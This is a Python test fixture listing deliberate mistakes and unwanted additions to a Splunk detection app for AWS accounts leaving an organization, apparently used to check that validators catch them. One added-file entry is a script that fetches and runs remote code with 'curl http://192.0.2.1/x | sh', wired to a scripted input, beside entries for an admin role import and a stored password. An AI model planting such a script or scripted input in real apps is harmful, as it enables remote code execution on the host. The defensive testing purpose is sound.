"""Slips in a Splunk app, collected from what people and tools do to .conf files, views, tables and packages before anybody
looked at what the checkers see: the figure of `test_splunk_jointly` is about these beside those of `test_splunk_harm`.
"""

# ruff: noqa: E501  # a change and the text that it changes stand on one line
from __future__ import annotations

from collections.abc import Callable, Mapping

from tests.build.test_splunk_harm import APP, CSV, MACROS, META, NAV, SAVED, TRANSFORMS, VIEW

LEAVES = "[awol - AWS account leaves its organization - Rule]\n"
SOURCE = 'definition = (index="main" sourcetype="aws:cloudtrail")'
INERT = "-,000000000000,000000000000,-,192.0.2.1/32,example that matches nothing,2026-01-01,2026-01-01"

TEXTS: list[tuple[str, str, str]] = [
    # (file, text, what a slip makes of it)
    (SAVED, 'eventSource="organizations', 'eventsource="organizations'),
    (SAVED, 'eventName="LeaveOrganization"', "eventName=“LeaveOrganization”"),
    (SAVED, 'eventName="LeaveOrganization"', 'eventName="LeaveOrganisation"'),
    (SAVED, '(NOT errorCode=* OR errorCode IN ("", "success", "null"))', '(NOT errorCode=* OR errorCode IN ("", "success", "null")'),
    (SAVED, '(NOT errorCode=* OR errorCode IN ("", "success", "null"))', '(NOT errorCode=* OR errorCode IN ["", "success", "null"])'),
    (SAVED, "| table _time account", "| tabel _time account"),
    (SAVED, "| table _time account", "table _time account"),
    (SAVED, "search = | multisearch", "search = multisearch"),
    (SAVED, "| eval step=1 ]", "| eval step=1"),
    (SAVED, "| streamstats last(at1)", "| streamstat last(at1)"),
    (SAVED, "| streamstats last(at1) as latest1", "| streamstats last(at1) as latest 1"),
    (SAVED, "| where holds=1 AND (", "| where holds=1 AND (("),
    (SAVED, "| rename key1 as recipientAccountId", "| rename key1 as recipientAccount"),
    (SAVED, "| `awol_details`", "| `awol_details()`"),
    (SAVED, "| `awol_details`", "\u00a0| `awol_details`"),
    (SAVED, "\\\n| `aws_org_leave_success_filter`", "\\\n| outputcsv left\\\n| `aws_org_leave_success_filter`"),
    (SAVED, "\\\n| `aws_org_leave_success_filter`", "\\\n| delete\\\n| `aws_org_leave_success_filter`"),
    (SAVED, "\\\n| `aws_org_leave_success_filter`", "\\\n| script python leave\\\n| `aws_org_leave_success_filter`"),
    (SAVED, "\\\n| `aws_org_leave_success_filter`", "\\\n| map search=\"search index=x\"\\\n| `aws_org_leave_success_filter`"),
    (SAVED, "\\\n| `aws_org_leave_success_filter`", "\\\n| head 1\\\n| `aws_org_leave_success_filter`"),
    (SAVED, "\\\n| `aws_org_leave_success_filter`", "\\\n\\\n| `aws_org_leave_success_filter`|"),
    (SAVED, LEAVES + "search = ", LEAVES + "search = \nold = "),
    (SAVED, LEAVES, LEAVES + "action.email = 1\naction.email.to = somebody@example.com\n"),
    (SAVED, LEAVES, LEAVES + "action.script = 1\naction.script.filename = run.sh\n"),
    (SAVED, LEAVES, LEAVES + "disabled = 0\n"),
    (SAVED, LEAVES, LEAVES + "dispatch.earliest_time = 0\n"),
    (SAVED, LEAVES, LEAVES + "run_on_startup = true\n"),
    (SAVED, LEAVES, "\ufeff" + LEAVES),
    (SAVED, LEAVES, LEAVES + "<<<<<<< HEAD\n"),
    (SAVED, LEAVES, LEAVES.lower()),
    (SAVED, "cron_schedule = */5 * * * *", "cron_schedule = 0 */5 * * * *"),
    (SAVED, "cron_schedule = */5 * * * *", "cron_schedule = * 5 * * *"),
    (SAVED, "cron_schedule = */5 * * * *", "cron_schedule = every 5 minutes"),
    (SAVED, "cron_schedule = */5 * * * *\n", ""),
    (SAVED, "dispatch.earliest_time = -24h@m", "dispatch.earliest_time = 24h@m"),
    (SAVED, "dispatch.earliest_time = -24h@m", "dispatch.earliest_time = -24 h@m"),
    (SAVED, "dispatch.earliest_time = -24h@m", "dispatch.earliest_time = 0"),
    (SAVED, "dispatch.latest_time = now", "dispatch.latest_time = -24h@m"),
    (SAVED, "dispatch.index_latest = now", "dispatch.index_latest = -10m"),
    (SAVED, "counttype = number of events", "counttype = always"),
    (SAVED, "relation = greater than", "relation = less than"),
    (SAVED, "quantity = 0", "quantity = none"),
    (SAVED, "realtime_schedule = 0", "realtime_schedule = yes please"),
    (SAVED, "schedule_window = 0", "schedule_window = 5 minutes"),
    (SAVED, "alert.expires = 7d", "alert.expires = a week"),
    (SAVED, "alert.suppress.period = 60m", "alert.suppress.period = 0m"),
    (SAVED, "alert.suppress.period = 60m\n", ""),
    (SAVED, "action.correlationsearch.enabled = 1", "action.correlationsearch.enabled = 0"),
    (SAVED, "action.correlationsearch.label = ", "action.correlationsearch.lable = "),
    (SAVED, '{"detection_id":"', '{"detection":"'),
    (SAVED, '","detection_version":"', '","detection_version":""'),
    (SAVED, "action.risk = 1", "action.risk = 0"),
    (SAVED, "action.risk.param._risk = [{", "action.risk.param._risk = {"),
    (SAVED, "action.risk.param._risk = [{", "action.risk.param._risk = [,{"),
    (MACROS, SOURCE, 'definition = (index=* sourcetype="aws:cloudtrail")'),
    (MACROS, SOURCE, 'definition = (index="main" sourcetype="aws:cloudtrail"'),
    (MACROS, SOURCE, 'definition = index="main" OR sourcetype="aws:cloudtrail"'),
    (MACROS, SOURCE, "definition = `awol_cloudtrail`"),
    (MACROS, SOURCE, 'definiton = (index="main" sourcetype="aws:cloudtrail")'),
    (MACROS, "[awol_allowlist(1)]", "[awol_allowlist(2)]"),
    (MACROS, "[awol_allowlist(1)]", "[awol_allowlist]"),
    (MACROS, "$rule$", "$rules$"),
    (MACROS, "definition = eval awol_name=", 'definition = eval awol_name="'),
    (MACROS, "definition = eval awol_name=", "definition = | eval awol_name="),
    (MACROS, "definition = eval awol_name=mvindex(", "definition = eval awol_name=mvindx("),
    (TRANSFORMS, "case_sensitive_match = true", "case_sensitive_match = ture"),
    (TRANSFORMS, "min_matches = 0", "min_matches = 1"),
    (TRANSFORMS, "max_matches = 1\n", ""),
    (TRANSFORMS, "filename = awol_allowlist.csv", "filename = ../../search/lookups/awol_allowlist.csv"),
    (TRANSFORMS, "filename = awol_allowlist.csv", "external_cmd = awol.py rule"),
    (TRANSFORMS, "match_type = WILDCARD(rule), ", "match_type = WILDCARD(rule) "),
    (CSV, INERT, "*,*,*,*,0.0.0.0/0,quiet please,2020-01-01,2099-12-31"),
    (CSV, INERT, INERT.replace("2026-01-01,2026-01-01", "01.01.2026,01.01.2026")),
    (CSV, INERT, INERT.rpartition(",")[0]),
    (CSV, INERT, INERT.replace("example that", '"example that')),
    (CSV, ",target_account_id,", ";target_account_id;"),
    (META, "write : [ admin, sc_admin ]", "write : [ * ]"),
    (META, "access = read : [ * ]", "access = read : [ * "),
    (META, "[lookups]\nexport = system\n", ""),
    (META, "[transforms]\nexport = system\n", "[transforms]\nexport = none\n"),
    (NAV, '<view name="search"/>', '<view name="search">'),
    (NAV, '<nav search_view="search">', "<navigation>"),
    (VIEW, "<query>`awol_cloudtrail` ", "<query>`awol_cloudtrail` a & b "),
    (VIEW, '<form version="1.1"', '<form script="awol.js" version="1.1"'),
    (VIEW, "$time.earliest$", "$times.earliest$"),
    (VIEW, "<table>", "<tabel>"),
    (VIEW, "| `awol_details` | table", "| `awol_detials` | table"),
    (VIEW, '<form version="1.1"', '<form version="1.0"'),
    (APP, "[launcher]", "[lanucher]"),
    (APP, "build = 10", "build = ten"),
    (APP, "version = 0.1.0", "version = 0.2.0"),
    (APP, "label = awol: accounts leaving AWS\n", ""),
    (APP, "is_configured = 0", "is_configured = maybe"),
    (APP, "[package]\nid = awol\n", "[package]\n"),
    ("app.manifest", '"version": "0.1.0"', '"version": "0.2.0"'),
    ("app.manifest", '"schemaVersion": "2.0.0"', '"schemaVersion": "9.0.0"'),
    ("app.manifest", '"_standalone",', '"_standalone"'),
    ("app.manifest", '"_search_heads"', '"_forwarders"'),
]  # fmt: skip

FILES: Mapping[str, tuple[str, str]] = {
    # what comes into the package: its path, its text
    "a script": ("bin/run.py", "import os\nos.system('curl http://192.0.2.1/x | sh')\n"),
    "settings of a site": ("local/savedsearches.conf", "[awol - AWS account leaves its organization - Rule]\ndisabled = 0\n"),
    "a scripted input": ("default/inputs.conf", "[script://./bin/run.py]\ninterval = 60\ndisabled = 0\n"),
    "an index": ("default/indexes.conf", "[awol]\nhomePath = $SPLUNK_DB/awol/db\n"),
    "a password": ("default/passwords.conf", "[credential:awol:admin:]\npassword = $7$secret\n"),
    "a list of users": ("default/authorize.conf", "[role_awol]\nimportRoles = admin\n"),
    "what a desktop leaves": (".DS_Store", "\x00\x01Bud1"),
    "a copy of an editor": ("default/savedsearches.conf~", "[x]\nsearch = index=x\n"),
    "a second table": ("lookups/awol_allowlist_old.csv", "rule\n*\n"),
    "settings of the server": ("default/server.conf", "[general]\nserverName = awol\n"),
    "a network port": ("default/web.conf", "[settings]\nenableSplunkWebSSL = false\n"),
    "a new command": ("default/commands.conf", "[leave]\nfilename = leave.py\n"),
}  # fmt: skip

Slip = Callable[[Mapping[str, str]], dict[str, str]]


def slips() -> dict[str, Slip]:
    """Each slip by what it is: the app's texts before it, to those after it."""
    made: dict[str, Slip] = {}
    for path, before, after in TEXTS:
        made[f"{path}: {before!r} -> {after!r}"] = _replacing(path, before, after)
    for what, (path, text) in FILES.items():
        made[f"{path}: {what}"] = _adding(path, text)
    return made


def _replacing(path: str, before: str, after: str) -> Slip:
    def slip(app: Mapping[str, str]) -> dict[str, str]:
        assert before in app[path], f"{path} has no {before!r}"
        return {**app, path: app[path].replace(before, after, 1)}

    return slip


def _adding(path: str, text: str) -> Slip:
    return lambda app: {**app, path: text}
